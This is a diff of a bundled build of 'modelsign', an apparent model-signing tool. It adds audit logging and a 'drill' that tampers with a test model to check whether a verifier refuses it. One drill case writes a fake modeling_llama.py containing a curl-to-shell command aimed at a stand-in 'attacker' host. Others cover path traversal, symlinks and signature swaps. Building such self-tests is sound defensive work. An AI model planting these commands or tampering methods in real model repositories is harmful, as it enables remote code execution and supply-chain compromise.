+      return fail(lineNo + 1, "last line is cut off (no newline at the end: the log was truncated or a write was interrupted)");
+    }
+  } finally {
+    await fh.close();
+  }
+  if (anchor !== void 0) {
+    report2.anchorFound = anchorFound;
+    if (!anchorFound) {
+      report2.intact = false;
+      report2.reason = `no line has the anchor hash ${anchor} (lines were removed from the end, or the log was replaced)`;
+      report2.firstBadLine = report2.records + 1;
+    }
+  }
+  return report2;
+}
+var RESULTS, UTF8;
+var init_check = __esm({
+  "src/audit/check.ts"() {
+    "use strict";
+    init_errors();
+    init_strict_json();
+    init_record();
+    RESULTS = /* @__PURE__ */ new Set(["verified", "refused", "error"]);
+    UTF8 = new TextDecoder("utf-8", { fatal: true });
+  }
+});
+
+// src/drill/model.ts
+import { mkdir as mkdir2, writeFile as writeFile5 } from "node:fs/promises";
+import path14 from "node:path";
+function filler(n, seed) {
+  const b2 = Buffer.alloc(n);
+  let x = seed >>> 0 || 1;
+  for (let i = 0; i < n; i++) {
+    x ^= x << 13;
+    x ^= x >>> 17;
+    x ^= x << 5;
+    b2[i] = x & 255;
+  }
+  return b2;
+}
+async function writeModel(dir, seed = 1) {
+  await mkdir2(path14.join(dir, "tokenizer"), { recursive: true });
+  await writeFile5(path14.join(dir, SHARD_1), filler(64 * 1024, seed));
+  await writeFile5(path14.join(dir, SHARD_2), filler(64 * 1024, seed + 1));
+  await writeFile5(path14.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile5(path14.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile5(path14.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
+  return dir;
+}
+async function signDrillModel(dir, key, version = "1.0.0") {
+  await signModel({ model: dir, version, name: "drill-model", license: "apache-2.0", signer: keySigner(key.priv, key.pub), engine: { jobs: 1 } });
+}
+var SHARD_1, SHARD_2;
+var init_model = __esm({
+  "src/drill/model.ts"() {
+    "use strict";
+    init_sign();
+    SHARD_1 = "model-00001-of-00002.safetensors";
+    SHARD_2 = "model-00002-of-00002.safetensors";
+  }
+});
+
+// src/drill/attacks.ts
+import { execFileSync } from "node:child_process";
+import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
+import { appendFile, copyFile, mkdir as mkdir3, readFile as readFile4, rename as rename3, rm as rm2, symlink, writeFile as writeFile6 } from "node:fs/promises";
+import { rmSync } from "node:fs";
+import path15 from "node:path";
+async function readSigned(model) {
+  const bundle = JSON.parse(await readFile4(path15.join(model, "model.sig"), "utf8"));
+  const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, "base64").toString("utf8"));
+  return { bundle, statement };
+}
+async function writeSignedPayload(model, payload, key) {
+  const bytes = Buffer.from(payload, "utf8");
+  const signature = signBytes(key.priv, pae(IN_TOTO_PAYLOAD_TYPE, bytes));
+  await writeFile6(path15.join(model, "model.sig"), serializeBundle(buildBundle({ payload: bytes, signature, material: { publicKeyHint: keyHint(key.pub) } })));
+}
+async function signedWithExtraResource(ctx, dirName, extra) {
+  const m2 = await ctx.copyBase(dirName);
+  const { statement } = await readSigned(m2);
+  const res = statement.predicate.resources;
+  res.push({ name: extra.name, algorithm: "sha256", digest: extra.digest });
+  statement.subject[0].digest.sha256 = rootDigest(res);
+  await writeSignedPayload(m2, JSON.stringify(statement), ctx.signer);
+  return m2;
+}
+function canMakeFifo(dir) {
+  if (process.platform === "win32") return false;
+  const probe = path15.join(dir, ".fifo-probe");
+  try {
+    execFileSync("mkfifo", [probe], { stdio: "ignore" });
+    rmSync(probe, { force: true });
+    return true;
+  } catch {
+    return false;
+  }
+}
+var sha256, ATTACKS;
+var init_attacks = __esm({
+  "src/drill/attacks.ts"() {
+    "use strict";
+    init_algorithms();
+    init_bundle();
+    init_dsse();
+    init_serialize();
+    init_model();
+    sha256 = (b2) => createHash6("sha256").update(b2).digest("hex");
+    ATTACKS = [
+      {
+        id: "changed-byte",
+        title: "one byte of a weight shard changed",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("changed-byte");
+          const f2 = path15.join(m2, SHARD_1);
+          const b2 = await readFile4(f2);
+          const i = b2.length >> 1;
+          b2[i] = b2[i] ^ 1;
+          await writeFile6(f2, b2);
+          return { model: m2 };
+        }
+      },
+      {
+        id: "injected-file",
+        title: "a modeling_*.py file added (remote code)",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("injected-file");
+          await writeFile6(path15.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          return { model: m2 };
+        }
+      },
+      {
+        id: "removed-shard",
+        title: "a weight shard removed",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("removed-shard");
+          await rm2(path15.join(m2, SHARD_2));
+          return { model: m2 };
+        }
+      },
+      {
+        id: "renamed-file",
+        title: "two shards swap names (same files, same bytes, wrong places)",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("renamed-file");
+          await rename3(path15.join(m2, SHARD_1), path15.join(m2, "tmp"));
+          await rename3(path15.join(m2, SHARD_2), path15.join(m2, SHARD_1));
+          await rename3(path15.join(m2, "tmp"), path15.join(m2, SHARD_2));
+          return { model: m2 };
+        }
+      },
+      {
+        id: "swapped-signature",
+        title: "another model's valid signature (same signer) put beside this model",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const other = await writeModel(path15.join(ctx.tmp, "other-model"), 99);
+          await signDrillModel(other, ctx.signer);
+          const m2 = await ctx.copyBase("swapped-signature");
+          await copyFile(path15.join(other, "model.sig"), path15.join(m2, "model.sig"));
+          return { model: m2 };
+        }
+      },
+      {
+        id: "untrusted-key",
+        title: "the model re-signed by a key the set-up does not trust",
+        needs: [],
+        async build(ctx) {
+          const m2 = path15.join(ctx.tmp, "untrusted-key");
+          await writeModel(m2, 7);
+          const kp = generateKeyPairSync2("ed25519");
+          await signDrillModel(m2, { priv: kp.privateKey, pub: kp.publicKey });
+          return { model: m2 };
+        }
+      },
+      {
+        id: "missing-signature",
+        title: "the signature file removed",
+        needs: [],
+        async build(ctx) {
+          const m2 = path15.join(ctx.tmp, "missing-signature");
+          await writeModel(m2, 8);
+          return { model: m2 };
+        }
+      },
+      {
+        id: "edited-payload",
+        title: "signed manifest edited to match a tampered shard, signature kept",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("edited-payload");
+          const evil = filler(64 * 1024, 666);
+          await writeFile6(path15.join(m2, SHARD_1), evil);
+          const { bundle, statement } = await readSigned(m2);
+          const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
+          r.digest = sha256(evil);
+          statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
+          bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
+          await writeFile6(path15.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          return { model: m2 };
+        }
+      },
+      {
+        id: "two-manifests",
+        title: 'signed payload with "predicate" twice (readers keeping the last key see an extra file)',
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("two-manifests");
+          await writeFile6(path15.join(m2, "modeling_llama.py"), "import os\n");
+          const { statement } = await readSigned(m2);
+          const evil = JSON.parse(JSON.stringify(statement));
+          evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
+          const text = JSON.stringify(statement).replace(/}$/, `,"predicate":${JSON.stringify(evil.predicate)}}`);
+          await writeSignedPayload(m2, text, ctx.signer);
+          return { model: m2 };
+        }
+      },
+      {
+        id: "traversal",
+        title: 'signed manifest names "../secret.bin", a file outside the model with the signed digest',
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const outside = path15.join(ctx.tmp, "secret.bin");
+          await writeFile6(outside, "outside the model\n");
+          return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
+        }
+      },
+      {
+        id: "absolute-path",
+        title: "signed manifest names an absolute path outside the model",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const outside = path15.join(ctx.tmp, "secret-abs.bin");
+          await writeFile6(outside, "outside the model (absolute)\n");
+          return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
+        }
+      },
+      {
+        id: "symlink-out",
+        title: "a signed file replaced by a symlink to identical bytes outside the model",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("symlink-out");
+          const outside = path15.join(ctx.tmp, "config-copy.json");
+          await copyFile(path15.join(m2, "config.json"), outside);
+          await rm2(path15.join(m2, "config.json"));
+          await symlink(outside, path15.join(m2, "config.json"));
+          return { model: m2 };
+        }
+      },
+      {
+        id: "symlink-in",
+        title: "a signed file replaced by a symlink to identical bytes inside the model (links not signed)",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("symlink-in");
+          await mkdir3(path15.join(m2, ".git"));
+          await copyFile(path15.join(m2, "config.json"), path15.join(m2, ".git", "config.json"));
+          await rm2(path15.join(m2, "config.json"));
+          await symlink(path15.join(".git", "config.json"), path15.join(m2, "config.json"));
+          return { model: m2 };
+        }
+      },
+      {
+        id: "fifo",
+        title: "a named pipe added to the model (a verifier that opens it hangs)",
+        needs: ["trusted-signature", "fifo"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("fifo");
+          execFileSync("mkfifo", [path15.join(m2, "pipe.bin")]);
+          return { model: m2 };
+        }
+      },
+      {
+        id: "appended-bytes",
+        title: "data appended to a shard (size grows, prefix intact)",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = await ctx.copyBase("appended-bytes");
+          await appendFile(path15.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
+          return { model: m2 };
+        }
+      },
+      // Attacks whose checks belong to features built elsewhere; the lead adds `build` on merge.
+      { id: "rollback", title: "an older signed version presented as current (version rollback)", needs: ["trusted-signature", "lineage"] },
+      { id: "revoked-ancestor", title: "a fine-tune of a revoked base model", needs: ["trusted-signature", "lineage"] },
+      { id: "license-outside-policy", title: "a model whose license the policy does not allow for this purpose", needs: ["trusted-signature", "policy"] },
+      { id: "hostile-pickle", title: "a pickle that runs code when loaded", needs: ["trusted-signature", "scan"] }
+    ];
+  }
+});
+
+// src/drill/run.ts
+import { cp, mkdtemp as mkdtemp2, rm as rm3 } from "node:fs/promises";
+import os4 from "node:os";
+import path16 from "node:path";
+async function runDrill(opts) {
+  const tmp = await mkdtemp2(path16.join(os4.tmpdir(), "modelsign-drill-"));
+  try {
+    const base2 = path16.join(tmp, "base-model");
+    await writeModel(base2, 1);
+    let baseline;
+    if (opts.signer) {
+      await signDrillModel(base2, opts.signer);
+      const r = await opts.verifier.verify(base2);
+      const f2 = r.failures[0];
+      baseline = r.verified ? { verified: true, reason: `a model signed with --signing-key (sha256:${keyHint(opts.signer.pub).slice(0, 16)}\u2026) verifies` } : { verified: false, reason: `the set-up refuses a model signed with --signing-key: ${f2 ? `${f2.message} [${f2.code}]` : "unknown"}` };
+    } else {
+      baseline = { verified: false, reason: "no --signing-key: the drill cannot make a model this set-up trusts" };
+    }
+    const met = /* @__PURE__ */ new Set([...opts.verifier.features]);
+    if (baseline.verified) met.add("trusted-signature");
+    if (canMakeFifo(tmp)) met.add("fifo");
+    const ctx = {
+      tmp,
+      ...opts.signer ? { signer: opts.signer } : {},
+      base: base2,
+      copyBase: async (name) => {
+        const dest = path16.join(tmp, name);
+        await cp(base2, dest, { recursive: true });
+        return dest;
+      }
+    };
+    const reports = [];
+    for (const a of opts.attacks ?? ATTACKS) reports.push(await runAttack(a, ctx, opts.verifier, met));
+    return {
+      verifier: opts.verifier.description,
+      baseline,
+      attacks: reports,
+      caught: reports.filter((r) => r.outcome === "caught").length,
+      missed: reports.filter((r) => r.outcome === "missed").length,
+      skipped: reports.filter((r) => r.outcome === "skipped").length
+    };
+  } finally {
+    await rm3(tmp, { recursive: true, force: true });
+  }
+}
+function skipReason(a, met, hasSigner) {
+  for (const n of a.needs) {
+    if (!met.has(n) && FEATURE_NEEDS.includes(n)) return `needs the ${n} feature, which this build of modelsign does not have`;
+  }
+  for (const n of a.needs) {
+    if (met.has(n)) continue;
+    if (n === "trusted-signature") return hasSigner ? "needs a trusted signature: this set-up refuses --signing-key (see baseline)" : "needs --signing-key, a private key this set-up trusts";
+    if (n === "fifo") return "this platform cannot make named pipes (mkfifo)";
+    return `needs ${n}`;
+  }
+  if (!a.build) return "not implemented in this build";
+  return void 0;
+}
+async function runAttack(a, ctx, verifier, met) {
+  const why = skipReason(a, met, ctx.signer !== void 0);
+  if (why) return { id: a.id, title: a.title, outcome: "skipped", codes: [], reason: why };
+  const built = await a.build(ctx);
+  let r;
+  try {
+    r = await verifier.verify(built.model, built.signature);
+  } catch (e) {
+    if (e instanceof ModelsignError) return { id: a.id, title: a.title, outcome: "caught", codes: [e.code] };
+    throw e;
+  }
+  if (r.verified) return { id: a.id, title: a.title, outcome: "missed", codes: [], reason: "the verifier accepted the attacked model" };
+  return { id: a.id, title: a.title, outcome: "caught", codes: [...new Set(r.failures.map((f2) => f2.code))] };
+}
+var FEATURE_NEEDS;
+var init_run = __esm({
+  "src/drill/run.ts"() {
+    "use strict";
+    init_errors();
+    init_algorithms();
+    init_attacks();
+    init_model();
+    FEATURE_NEEDS = ["lineage", "policy", "scan"];
+  }
+});
+
+// src/drill/verifier.ts
+async function drillVerifier(cfg) {
+  if (cfg.policy !== void 0) {
+    throw usage("DRILL_POLICY_UNSUPPORTED", `drill --policy: this build of modelsign has no policy support yet, so it cannot build the verifier ${cfg.policy} describes; use --key PUBLIC_KEY`);
+  }
+  if (cfg.keys.length === 0) throw usage("MISSING_OPTION", "drill needs the set-up to test: --key PUBLIC_KEY (repeatable) or --policy FILE");
+  const trust = await Promise.all(cfg.keys.map(async (k2) => keyTrust(await loadPublicKey(k2), `key ${k2}`)));
+  const stages = [];
+  const features = /* @__PURE__ */ new Set(["keys"]);
+  return {
+    description: `keys ${cfg.keys.join(", ")}${cfg.purpose ? ` (purpose ${cfg.purpose})` : ""}`,
+    features,
+    verify: (model, signature) => verifyModel({
+      model,
+      trust,
+      stages,
+      ...signature ? { signature } : {},
+      ignorePaths: [],
+      ignoreUnsignedFiles: false,
+      engine: { jobs: cfg.jobs ?? 1 }
+    })
+  };
+}
+var init_verifier = __esm({
+  "src/drill/verifier.ts"() {
+    "use strict";
+    init_errors();
+    init_keyfile();
+    init_trust_key();
+    init_pipeline();
+  }
+});
+
 // src/index.ts
 var index_exports = {};
 __export(index_exports, {
+  ATTACKS: () => ATTACKS,
+  AUDIT_GENESIS: () => GENESIS,
   BUNDLE_MEDIA_TYPE: () => BUNDLE_MEDIA_TYPE,
   DENIABLE_FORMATS: () => DENIABLE_FORMATS,
   EXIT: () => EXIT,
@@ -24705,14 +25409,17 @@ __export(index_exports, {
   RELATIONS: () => RELATIONS,
   SIGNING_KEY_TYPES: () => SIGNING_KEY_TYPES,
   TOOL_VERSION: () => TOOL_VERSION,
+  appendAudit: () => appendAudit,
   archiveSourceFor: () => archiveSourceFor,
   buildBundle: () => buildBundle,
   buildStatement: () => buildStatement,
+  checkAuditLog: () => checkAuditLog,
   checkRevoked: () => checkRevoked,
   checkTrust: () => checkTrust,
   defaultModelName: () => defaultModelName,
   defaultSignaturePath: () => defaultSignaturePath,
   digest: () => digestModel,
+  drillVerifier: () => drillVerifier,
   enumerateModel: () => enumerateModel,
   evaluateLicense: () => evaluateLicense,
   formatsStage: () => formatsStage,
@@ -24743,6 +25450,7 @@ __export(index_exports, {
   readState: () => readState,
   recordVerified: () => recordVerified,
   rootDigest: () => rootDigest,
+  runDrill: () => runDrill,
   scanArchive: () => scanArchive,
   scanPath: () => scanPath,
   sign: () => sign,
@@ -24792,6 +25500,12 @@ var init_index = __esm({
     init_stage();
     init_lineage();
     init_archive();
+    init_append();
+    init_check();
+    init_record();
+    init_run();
+    init_verifier();
+    init_attacks();
   }
 });
 
@@ -25018,9 +25732,9 @@ var init_sign2 = __esm({
 init_esm();
 init_errors();
 init_io();
-import { mkdtempSync, rmSync, writeFileSync as writeFileSync2 } from "node:fs";
-import os4 from "node:os";
-import path13 from "node:path";
+import { mkdtempSync, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
+import os5 from "node:os";
+import path17 from "node:path";
 
 // src/cli/verify-key.ts
 init_io();
@@ -25311,9 +26025,60 @@ var podPlugin = {
     }
     if (!r.verified) writeReason(flags, failureReason(r));
   },
-  onError(flags, e) {
+  error(flags, _model, e) {
     if (flags.logFormat === "json" && !output.sink) output.sink = jsonSink();
     writeReason(flags, errorReason(e));
+  }
+};
+
+// src/cli/verify-audit.ts
+init_errors();
+import path11 from "node:path";
+function str2(v2) {
+  return typeof v2 === "string" ? v2 : null;
+}
+function base(model, flags) {
+  return {
+    time: (/* @__PURE__ */ new Date()).toISOString(),
+    model: path11.resolve(model),
+    signature: str2(flags.signature) ? path11.resolve(flags.signature) : null,
+    rootDigest: null,
+    name: null,
+    version: null,
+    signer: null,
+    // Flags other plugins own; recorded when they are present.
+    policy: str2(flags.policy) ? path11.resolve(flags.policy) : null,
+    purpose: str2(flags.purpose)
+  };
+}
+function decisionFromResult(flags, r) {
+  return {
+    ...base(r.model, flags),
+    signature: path11.resolve(r.signature),
+    rootDigest: r.rootDigest ? `sha256:${r.rootDigest}` : null,
+    name: r.metadata?.name ?? r.subjectName ?? null,
+    version: r.metadata?.version ?? null,
+    signer: r.signer ?? null,
+    result: r.verified ? "verified" : "refused",
+    failureCodes: r.failures.map((f2) => f2.code)
+  };
+}
+var auditPlugin = {
+  name: "audit",
+  addOptions(cmd) {
+    cmd.option("--audit-log <file>", "append this decision to a tamper-evident audit log (JSON lines, hash-chained; check with `modelsign audit verify`)");
+  },
+  async after(flags, result) {
+    if (typeof flags.auditLog !== "string") return;
+    const { appendAudit: appendAudit2 } = await Promise.resolve().then(() => (init_append(), append_exports));
+    await appendAudit2(flags.auditLog, decisionFromResult(flags, result));
+  },
+  async error(flags, model, e) {
+    if (typeof flags.auditLog !== "string") return;
+    if (e instanceof ModelsignError && e.code === "AUDIT_WRITE_FAILED") return;
+    const { appendAudit: appendAudit2 } = await Promise.resolve().then(() => (init_append(), append_exports));
+    const code = e instanceof ModelsignError ? e.code : "INTERNAL";
+    await appendAudit2(flags.auditLog, { ...base(model, flags), result: "error", failureCodes: [code] });
   }
 };
 
@@ -25325,7 +26090,9 @@ var verifyPlugins = [
   keyPlugin,
   // lineage records the ancestors (extra.lineage) that the policy stage then judges.
   lineagePlugin,
-  policyPlugin
+  policyPlugin,
+  // audit stays LAST: it logs what the others decided.
+  auditPlugin
 ];
 
 // src/action/runner.ts
@@ -25424,9 +26191,9 @@ function keyPaths(r, cleanup, secret) {
   const raw = r.input("key");
   if (!raw.includes("-----BEGIN")) return r.listInput("key");
   if (secret) r.mask(raw);
-  const dir = mkdtempSync(path13.join(process.env.RUNNER_TEMP || os4.tmpdir(), "modelsign-key-"));
+  const dir = mkdtempSync(path17.join(process.env.RUNNER_TEMP || os5.tmpdir(), "modelsign-key-"));
   cleanup.dirs.push(dir);
-  const file = path13.join(dir, secret ? "signing.key" : "trusted.pub");
+  const file = path17.join(dir, secret ? "signing.key" : "trusted.pub");
   writeFileSync2(file, raw.endsWith("\n") ? raw : `${raw}
 `, { mode: 384 });
   return [file];
@@ -25662,7 +26429,7 @@ ${table(["Code", "Message"], [[err ? `\`${err.code}\`` : "INTERNAL", err ? err.m
 `);
     return err ? err.exitCode : 3;
   } finally {
-    for (const d of cleanup.dirs) rmSync(d, { recursive: true, force: true });
+    for (const d of cleanup.dirs) rmSync2(d, { recursive: true, force: true });
   }
 }
 
